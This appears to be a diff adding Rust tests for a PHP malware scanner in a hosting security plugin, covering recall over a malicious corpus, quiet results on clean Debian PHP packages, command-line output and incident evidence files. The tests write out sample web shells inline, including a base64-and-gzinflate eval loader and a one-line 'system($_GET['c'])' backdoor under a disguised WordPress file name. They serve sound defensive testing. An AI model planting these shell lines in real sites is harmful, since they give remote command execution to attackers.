@@ -100,3 +100,190 @@ fn the_review_feeds_the_checklist_until_nothing_is_left_open() {
     assert!(!t.contains("things to remove or keep on purpose"), "{t}");
     assert!(b.get(&url).text().contains("Nothing left to review."));
 }
+
+const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/sweep/malicious");
+
+/// Debian packages of popular PHP software (installed by scripts/test.sh), used as clean trees.
+const CLEAN_TREES: &[&str] = &[
+    "/usr/share/wordpress",
+    "/usr/share/phpmyadmin",
+    "/usr/share/roundcube",
+    "/usr/share/dokuwiki",
+    "/usr/share/mediawiki",
+    "/usr/share/php",
+];
+
+/// Every sample of the corpus: its name and the file (a folder holds one configuration file
+/// or page, since those are recognised by their own name).
+fn corpus() -> Vec<(String, std::path::PathBuf)> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(CORPUS).unwrap() {
+        let e = e.unwrap();
+        let name = e.file_name().to_string_lossy().into_owned();
+        if e.file_type().unwrap().is_dir() {
+            let inner: Vec<_> = std::fs::read_dir(e.path()).unwrap().map(|f| f.unwrap().path()).collect();
+            assert_eq!(inner.len(), 1, "{name} holds one file");
+            out.push((name, inner[0].clone()));
+        } else {
+            out.push((name, e.path()));
+        }
+    }
+    out.sort();
+    out
+}
+
+/// A site holding every sample in a folder of its own under neutral names (no upload or
+/// plugin folder), so only the content can give a sample away.
+fn site_with_corpus() -> (tempfile::TempDir, std::path::PathBuf, Vec<String>) {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("public_html");
+    let mut names = Vec::new();
+    for (i, (name, file)) in corpus().into_iter().enumerate() {
+        let dir = root.join(format!("lib/part{i:03}"));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::copy(&file, dir.join(file.file_name().unwrap())).unwrap();
+        names.push(name);
+    }
+    (tmp, root, names)
+}
+
+#[test]
+fn the_corpus_of_attackers_shapes_is_found_by_content_alone() {
+    let (tmp, root, names) = site_with_corpus();
+    assert!(names.len() >= 60, "the corpus has {} samples", names.len());
+    let report = secure_reopen::sweep::files::sweep(tmp.path(), &[root], &Default::default());
+    let found: std::collections::BTreeSet<usize> = report
+        .findings
+        .iter()
+        .filter_map(|f| f.path.split('/').find_map(|p| p.strip_prefix("part")).and_then(|n| n.parse().ok()))
+        .collect();
+    let missed: Vec<&str> =
+        names.iter().enumerate().filter(|(i, _)| !found.contains(i)).map(|(_, n)| n.as_str()).collect();
+    let recall = found.len() as f64 / names.len() as f64;
+    assert!(recall >= 0.9, "recall {:.1} % ({}/{}); missed: {missed:?}", recall * 100.0, found.len(), names.len());
+    // Nothing but the samples is reported, most dangerous first.
+    assert_eq!(report.findings.len(), found.len());
+    let dangers: Vec<_> = report.findings.iter().map(|f| f.danger()).collect();
+    assert!(dangers.windows(2).all(|w| w[0] >= w[1]), "ranked by danger: {dangers:?}");
+    eprintln!("corpus recall {}/{}; missed: {missed:?}", found.len(), names.len());
+}
+
+#[test]
+fn each_shape_gets_the_reason_a_customer_can_read() {
+    use secure_reopen::sweep::detect::{Danger, Why, judge};
+    let why = |name: &str| -> Vec<Why> {
+        let (_, file) = corpus().into_iter().find(|(n, _)| n == name).unwrap();
+        let fname = file.file_name().unwrap().to_string_lossy().into_owned();
+        judge(&fname, &fname, &std::fs::read(&file).unwrap(), &[]).into_iter().map(|h| h.why).collect()
+    };
+    assert_eq!(why("char_table_loader.php")[0], Why::EvalOfDecoded);
+    assert!(why("char_table_loader.php").contains(&Why::HiddenFunctionName));
+    assert_eq!(why("chr_concatenation.php")[0], Why::CodeFromInput);
+    assert_eq!(why("shell_exec_variable.php"), [Why::ShellFromInput]);
+    assert_eq!(why("curl_fetch_eval.php"), [Why::CodeFromInternet]);
+    assert_eq!(why("upload_form_dropper.php"), [Why::UploadDropper]);
+    assert_eq!(why("include_favicon.php"), [Why::IncludeOfData]);
+    assert_eq!(why("lockdown"), [Why::PhpLockdown]);
+    assert_eq!(why("cgi_invented_extension"), [Why::HandlerOnData]);
+    assert_eq!(why("php_ini_weakened"), [Why::PhpWeakened]);
+    assert_eq!(why("ssi_exec_page"), [Why::SsiExec]);
+    assert_eq!(why("fake_wordfence_block"), [Why::PrependAppend]);
+    // The words shown to the customer exist in both languages for every reason found.
+    for (name, file) in corpus() {
+        let fname = file.file_name().unwrap().to_string_lossy().into_owned();
+        for h in judge(&fname, &fname, &std::fs::read(&file).unwrap(), &[]) {
+            assert!(h.danger >= Danger::Low);
+            for lang in [secure_reopen::i18n::Lang::En, secure_reopen::i18n::Lang::Nb] {
+                let t = (lang.texts().sweep.reason)(&secure_reopen::sweep::Reason::File(h.why));
+                assert!(t.len() > 10, "{name}: {:?}", h.why);
+            }
+        }
+    }
+}
+
+#[test]
+fn a_large_webshell_with_non_ascii_text_and_a_long_base64_run_is_found() {
+    // 214 KB: a UTF-8 comment, a long base64 run and the loader at the end.
+    let mut src = "<?php\n// Kontrollpanel – «cache» ø\n$d = '".to_owned();
+    let run: String = (0..210_000).map(|i| b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3+/"[i % 42] as char).collect();
+    src.push_str(&run);
+    src.push_str("';\n$f = gzinflate(base64_decode($d));\n@eval($f);\n");
+    assert!(src.len() > 210_000);
+    let hits = secure_reopen::sweep::detect::judge("x.php", "x.php", src.as_bytes(), &[]);
+    let whys: Vec<_> = hits.iter().map(|h| h.why).collect();
+    assert!(whys.contains(&secure_reopen::sweep::detect::Why::EvalOfDecoded), "{whys:?}");
+    assert_eq!(hits[0].line, Some(5));
+}
+
+#[test]
+fn clean_software_from_debian_is_quiet() {
+    let trees: Vec<std::path::PathBuf> = CLEAN_TREES.iter().map(std::path::PathBuf::from).collect();
+    for t in &trees {
+        assert!(t.is_dir(), "{} is missing: run ./scripts/test.sh (it installs the Debian packages)", t.display());
+    }
+    let report = secure_reopen::sweep::files::sweep(std::path::Path::new("/usr/share"), &trees, &Default::default());
+    assert!(report.files > 30_000, "too few files: {}", report.files);
+    let flagged: Vec<String> = report
+        .findings
+        .iter()
+        .map(|f| format!("{} {:?}", f.path, f.hits.iter().map(|h| (h.why, h.evidence.as_str())).collect::<Vec<_>>()))
+        .collect();
+    assert!(
+        flagged.len() * 2000 < report.files,
+        "{} false positives in {} clean files:\n{}",
+        flagged.len(),
+        report.files,
+        flagged.join("\n")
+    );
+    eprintln!("clean trees: {} flagged of {} files", flagged.len(), report.files);
+}
+
+#[test]
+fn a_technician_scans_a_folder_from_the_command_line() {
+    let (tmp, root, names) = site_with_corpus();
+    let run = |args: &[&str]| {
+        let out = std::process::Command::new(PLUGIN).args(args).output().unwrap();
+        (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).into_owned())
+    };
+    let (code, text) = run(&["scan", root.to_str().unwrap()]);
+    assert_eq!(code, 1, "something found: exit 1");
+    assert!(text.lines().next().unwrap().starts_with("critical "), "{text}");
+    assert!(text.contains("Lets visitors run commands on the server"), "{text}");
+    let (code, json) = run(&["scan", root.to_str().unwrap(), "--json"]);
+    assert_eq!(code, 1);
+    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let findings = v["findings"].as_array().unwrap();
+    assert!(findings.len() * 10 >= names.len() * 9);
+    let lockdown = findings
+        .iter()
+        .find(|f| f["path"].as_str().unwrap().ends_with(".htaccess") && f["reasons"][0]["why"] == "php_lockdown")
+        .expect("the lockdown .htaccess");
+    assert_eq!(lockdown["danger"], "high");
+    // A clean folder: exit 0; a missing one: usage error.
+    let clean = tmp.path().join("clean");
+    std::fs::create_dir_all(&clean).unwrap();
+    std::fs::write(clean.join("index.php"), "<?php echo 'hello';\n").unwrap();
+    assert_eq!(run(&["scan", clean.to_str().unwrap()]).0, 0);
+    assert_eq!(run(&["scan", tmp.path().join("nope").to_str().unwrap()]).0, 2);
+}
+
+#[test]
+fn opening_an_incident_with_a_scan_keeps_the_findings_as_evidence() {
+    let sim = Sim::start();
+    let site = sim.state_dir().join("home/other/public_html/wp-includes");
+    std::fs::create_dir_all(&site).unwrap();
+    std::fs::write(site.join("class-wp-cache-x.php"), "<?php $k = 'sys' . 'tem'; $k($_GET['c']);\n").unwrap();
+    std::fs::write(site.join("version.php"), "<?php $wp_version = '6.1';\n").unwrap();
+    let (code, out, err) = sim.admin(&["incident", "open", "other", "--scan", "--no-suspend"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("scan: 1 findings"), "{out}");
+    let file = sim.root().join("var/cpanel/secure_reopen/incidents/other.scan.json");
+    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
+    let paths: Vec<&str> = v["findings"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
+    assert_eq!(paths, ["public_html/wp-includes/class-wp-cache-x.php"]);
+    assert_eq!(v["findings"][0]["reasons"][0]["why"], "shell_from_input");
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
+    let log = std::fs::read_to_string(sim.root().join("var/cpanel/secure_reopen/audit/other.log")).unwrap();
+    assert!(log.contains("\"event\":\"incident_scanned\""), "{log}");
+}
